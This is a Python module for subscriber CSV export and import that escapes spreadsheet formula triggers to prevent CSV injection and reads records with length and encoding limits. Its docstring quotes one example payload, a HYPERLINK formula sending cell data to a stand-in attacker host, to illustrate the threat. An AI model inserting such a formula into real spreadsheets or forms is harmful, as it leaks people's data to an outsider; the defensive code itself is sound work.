"""Subscriber CSV files: the formula-neutralising cell rule both ways, and bounded reading.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
as a formula (OWASP "CSV injection"): a name from the public form such as
`=HYPERLINK("http://evil.example/?"&A2,"Click")` would leak the sheet to whoever wrote it.
The export writes such a cell behind a single quote, which spreadsheets show as text, and
the import takes that quote off again, so an export imports as exactly what was stored.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import BinaryIO

EXPORT_HEADER = ("email", "name", "status", "created_at", "confirmed_at")

# A row is an address (at most 254 characters), a name (at most 200) and a few exported
# columns: 64 K characters is a hundred times that, and reading stops there, so a file with
# one 50 MB field never has more than this in memory at once.
MAX_RECORD_CHARS = 64 * 1024

# The escape rule is a bijection between every value and the cells the export writes:
# a value that matches `'*T` (any number of quotes, then a trigger T) gets one more quote in
# front, anything else is written as it is. The escaped cells all match `'+T` and the cells
# left alone match no `'*T`, so no two values share a cell, and taking one quote off a cell
# that matches `'+T` gives back the value: unescape_cell(escape_cell(v)) == v for every v.
# A value that genuinely starts with `'=` is therefore written `''=` and read back as `'=`.
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
# What TextIOWrapper's surrogateescape makes of bytes that are not UTF-8.
_UNDECODABLE = re.compile(r"[\udc80-\udcff]")


def escape_cell(value: str) -> str:
    """The cell the export writes for `value`: quoted when a spreadsheet would run it."""
    return "'" + value if _NEEDS_QUOTE.match(value) else value


def unescape_cell(cell: str) -> str:
    """The value an exported cell stands for (the inverse of escape_cell).

    A cell no export wrote, such as a hand-typed `=1`, is read as it is.
    """
    return cell[1:] if cell.startswith("'") and _NEEDS_QUOTE.match(cell) else cell


def escape_row(values: list[str]) -> list[str]:
    return [escape_cell(value) for value in values]


class CsvProblem(ValueError):
    """The file stops being readable CSV at `line`; nothing after it can be trusted."""

    def __init__(self, line: int, message: str) -> None:
        self.line = line
        self.message = message
        super().__init__(f"line {line}: {message}")


class _Lines:
    """The file's physical lines for csv.reader, refusing a record longer than the limit
    before it is in memory, and naming the exact line where the bytes are not UTF-8."""

    def __init__(self, text: io.TextIOWrapper, limit: int) -> None:
        self._text = text
        self._limit = limit
        self.number = 0  # lines read so far
        self.record_start = 1
        self._record_chars = 0

    def start_record(self) -> None:
        self.record_start = self.number + 1
        self._record_chars = 0

    def __iter__(self) -> _Lines:
        return self

    def __next__(self) -> str:
        line = self._text.readline(self._limit + 1 - self._record_chars)
        if not line:
            raise StopIteration
        self.number += 1
        self._record_chars += len(line)
        if self._record_chars > self._limit:
            raise CsvProblem(self.record_start, f"a row longer than {self._limit} characters")
        if _UNDECODABLE.search(line):
            raise CsvProblem(self.number, "not UTF-8 text (save the file as CSV UTF-8)")
        return line


def records(binary: BinaryIO, *, limit: int = MAX_RECORD_CHARS) -> Iterator[tuple[int, list[str]]]:
    """(first line, cells) of every record of a UTF-8 CSV file, read line by line (closes it).

    Cells are as written: unescape_cell is the caller's to apply to the cells it reads.

    Raises:
        CsvProblem: a malformed record (an unclosed quote, text after a closing quote), one
            longer than `limit` characters, or bytes that are not UTF-8, naming its line.
    """
    # surrogateescape: a bad byte becomes a marker in its own line instead of an exception
    # raised while decoding a chunk several lines ahead.
    with io.TextIOWrapper(binary, encoding="utf-8-sig", errors="surrogateescape",
                          newline="") as text:
        lines = _Lines(text, limit)
        # strict: a stray quote is an error, not a field swallowing the rest of the file.
        reader = csv.reader(lines, strict=True)
        while True:
            lines.start_record()
            try:
                cells = next(reader)
            except StopIteration:
                return
            except csv.Error as exc:
                raise CsvProblem(lines.record_start, f"malformed CSV: {exc}") from None
            yield lines.record_start, cells


__all__ = ["EXPORT_HEADER", "MAX_RECORD_CHARS", "CsvProblem", "escape_cell", "escape_row",
           "records", "unescape_cell"]
